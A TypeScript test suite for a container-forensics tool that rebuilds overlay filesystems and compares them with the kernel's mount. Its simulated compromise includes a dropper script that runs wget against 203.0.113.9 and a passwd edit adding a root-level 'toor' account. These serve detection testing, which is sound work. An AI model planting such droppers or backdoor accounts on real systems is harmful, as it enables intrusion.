import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ContainerdVolume, makeContainerdVolume } from '../../../test/volumes/containerd.js';
import { type DockerVolume, makeDockerVolume } from '../../../test/volumes/docker.js';
import { kernelView, withKernelMount } from '../../../test/volumes/overlay-mount.js';
import { findArguments } from '../collectors/script.js';
import { type Artifact, defaultProfile } from '../profile.js';
import { containerFilesystem } from './container-view.js';
import { listVolumeContainers } from './list.js';
import type { FileView } from './overlay-view.js';
import { readViewFile } from './view-files.js';
import { selectInView } from './view-select.js';
import { statLines } from './view-stat.js';

let dir: string;
let containerd: ContainerdVolume;
let docker: DockerVolume;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'gatehouse-view-'));
  containerd = await makeContainerdVolume(join(dir, 'containerd'));
  docker = await makeDockerVolume(join(dir, 'docker'));
}, 180_000);

afterAll(() => rmSync(dir, { recursive: true, force: true }));

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

const letters: Record<string, string> = {
  file: 'f',
  directory: 'd',
  symlink: 'l',
  fifo: 'p',
  socket: 's',
  'char-device': 'c',
  'block-device': 'b',
};
const asLetters = (view: FileView) =>
  new Map([...view].map(([path, entry]) => [path, letters[entry.type] ?? '?']));

function layersOf(root: string, id: string) {
  const container = listVolumeContainers(root).containers.find(
    (candidate) => candidate.id === id || candidate.name === id,
  );
  return container!.layers!;
}

describe('a container’s filesystem rebuilt from its layer directories', () => {
  it('matches what the kernel’s overlayfs shows for the containerd container, whiteouts and opaque dirs applied', () => {
    const layers = layersOf(containerd.root, 'web-0-app');
    const { view, anomalies } = containerFilesystem(containerd.root, layers);
    expect(anomalies).toEqual([]);
    expect(asLetters(view)).toEqual(kernelView(containerd.root, layers));
    expect(view.has('bin/vi')).toBe(false);
    expect(view.has('bin/wget')).toBe(false);
    expect(view.has('opt/app/old.conf')).toBe(false);
    expect(view.get('opt/app/new.conf')?.type).toBe('file');
    expect(view.get('tmp/dropper.sh')?.mode).toBe(0o755);
  });

  it('lists the containerd container’s own changes: the dropped script, the edited passwd, the deleted binary', () => {
    const { changes } = containerFilesystem(containerd.root, layersOf(containerd.root, 'web-0-app'));
    const own = changes
      .filter((change) => !change.runtime)
      .map(({ path, kind, type }) => ({ path, kind, type }));
    expect(own).toEqual([
      { path: 'bin/wget', kind: 'deleted', type: 'symlink' },
      { path: 'etc/passwd', kind: 'modified', type: 'file' },
      { path: 'tmp/dropper.sh', kind: 'added', type: 'file' },
    ]);
    expect(changes.filter((change) => change.runtime).map((change) => change.path)).toEqual([
      'dev',
      'proc',
      'run',
      'sys',
    ]);
    const hashOf = (path: string) => changes.find((change) => change.path === path)?.sha256;
    expect(hashOf('tmp/dropper.sh')).toBe(sha256('#!/bin/sh\nwget http://203.0.113.9/x\n'));
    expect(hashOf('etc/passwd')).toBe(
      sha256(
        'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534::/:/bin/false\ntoor:x:0:0::/root:/bin/sh\n',
      ),
    );
    expect(hashOf('bin/wget')).toBeUndefined();
  });

  it('shows no changes for a container nobody touched, and never counts the image’s own whiteouts', () => {
    const { changes } = containerFilesystem(containerd.root, layersOf(containerd.root, 'web-0-sandbox'));
    expect(changes.filter((change) => !change.runtime)).toEqual([]);
  });

  it('does the same for a Docker container, with the -init layer among the lowers', () => {
    const layers = layersOf(docker.root, 'k8s_api_api-1');
    const { view, changes, anomalies } = containerFilesystem(docker.root, layers);
    expect(anomalies).toEqual([]);
    expect(asLetters(view)).toEqual(kernelView(docker.root, layers));
    expect(view.get('.dockerenv')?.type).toBe('file');
    expect(changes.filter((change) => !change.runtime).map(({ path, kind }) => `${kind} ${path}`)).toEqual([
      'deleted bin/wget',
      'modified etc/passwd',
      'added tmp/dropper.sh',
    ]);
  });

  it('says opaque directories are unknown when getfattr cannot run, instead of guessing', () => {
    const layers = layersOf(containerd.root, 'web-0-app');
    const { anomalies } = containerFilesystem(containerd.root, layers, { getfattr: '/nonexistent/getfattr' });
    expect(anomalies).toHaveLength(3);
    expect(anomalies[0]!.message).toMatch(/opaque directories are unknown.*install Debian's attr package/);
  });

  it('reads files as the container saw them, following its links inside it, as the kernel’s mount does', () => {
    const layers = layersOf(containerd.root, 'web-0-app');
    const { view } = containerFilesystem(containerd.root, layers);
    const read = (path: string) =>
      readViewFile({ root: containerd.root, layers, view, path, maxBytes: 8 << 20 });
    withKernelMount(containerd.root, layers, (mountPoint) => {
      for (const path of ['/bin/sh', '/etc/passwd', '/tmp/dropper.sh', '/opt/app/new.conf']) {
        expect(read(path).equals(readFileSync(join(mountPoint, path))), path).toBe(true);
      }
    });
    expect(read('/bin/sh').equals(readFileSync('/bin/busybox'))).toBe(true);
    expect(read('/etc/passwd').toString()).toMatch(/^toor:x:0:0:/m);
    expect(() => read('/bin/wget')).toThrow(/\/bin\/wget: no such file in the container/);
    expect(() => read('/opt/app/old.conf')).toThrow(/no such file/);
  });

  it('selects the same files and listings for every file artifact of the default profile as the exec collector’s find', () => {
    const layers = layersOf(containerd.root, 'web-0-app');
    const { view } = containerFilesystem(containerd.root, layers);
    const artifacts: Artifact[] = [
      ...defaultProfile.artifacts.filter((artifact) => artifact.collector !== 'command'),
      {
        id: 't.names',
        description: '',
        collector: 'files',
        paths: ['/'],
        names: ['*.con[f]', 'pass?d', '*.sh'],
        exclude: ['/opt/*'],
      },
      {
        id: 't.where',
        description: '',
        collector: 'list',
        paths: ['/'],
        where: '( -perm -0100 -type f -o -type l ) -a ! -perm /0020',
      },
      {
        id: 't.depth',
        description: '',
        collector: 'list',
        paths: ['/bin', '/opt'],
        maxDepth: 1,
        exclude: ['/*/b[!u]*'],
      },
    ];
    expect(artifacts.length).toBeGreaterThan(10);
    withKernelMount(containerd.root, layers, (mountPoint) => {
      for (const artifact of artifacts) {
        const found = spawnSync('sh', ['-c', `cd "${mountPoint}" && ${findArguments(artifact)} -print`], {
          encoding: 'utf8',
        });
        const expected = found.stdout
          .split('\n')
          .filter((line) => line !== '' && line !== '.')
          .map((line) => line.slice(1))
          .sort();
        const selection = selectInView(view, artifact);
        const selected = [...selection.entries, ...selection.oversize]
          .map((entry) => entry.containerPath)
          .sort();
        expect(selected, artifact.id).toEqual(expected);
      }
    });
    const executables = selectInView(view, artifacts.find((artifact) => artifact.id === 't.where')!).entries;
    // Links have mode 0777, so `! -perm /0020` drops them, as find did on the kernel's mount.
    expect(executables.map((entry) => entry.containerPath).sort()).toEqual([
      '/bin/busybox',
      '/tmp/dropper.sh',
    ]);
    const named = selectInView(view, artifacts.find((artifact) => artifact.id === 't.names')!).entries.map(
      (entry) => entry.containerPath,
    );
    expect(named.sort()).toEqual(['/etc/passwd', '/tmp/dropper.sh']);
    const etc = selectInView(view, defaultProfile.artifacts.find((artifact) => artifact.id === 'files.etc')!);
    expect(etc.entries.map((entry) => entry.containerPath)).toContain('/etc/passwd');
  });

  it('prints the view’s metadata exactly as the live fs.bodyfile command prints it on the mounted container', () => {
    const layers = layersOf(containerd.root, 'web-0-app');
    const { view } = containerFilesystem(containerd.root, layers);
    const command = defaultProfile.artifacts.find((artifact) => artifact.id === 'fs.bodyfile')!.command!;
    // Inode and access time are the volume's own facts and differ through a mount; the rest must not.
    const comparable = (text: string) =>
      text
        .split('\n')
        .map((line) => line.split('|'))
        .filter((fields) => fields.length === 9 && fields[8] !== '.')
        .map((fields) => [fields[1], fields[2], fields[3], fields[4], fields[6], fields[8]].join('|'))
        .sort();
    const live = withKernelMount(
      containerd.root,
      layers,
      (mountPoint) =>
        spawnSync('sh', ['-c', command.replaceAll('$R', mountPoint)], { encoding: 'utf8' }).stdout,
    );
    expect(comparable(statLines(view))).toEqual(comparable(live));
    expect(statLines(view)).toMatch(/\|-rwxr-xr-x\|0\|0\|36\|\d+\|\d+\|\d+\|\.\/tmp\/dropper\.sh\n/);
  });
});
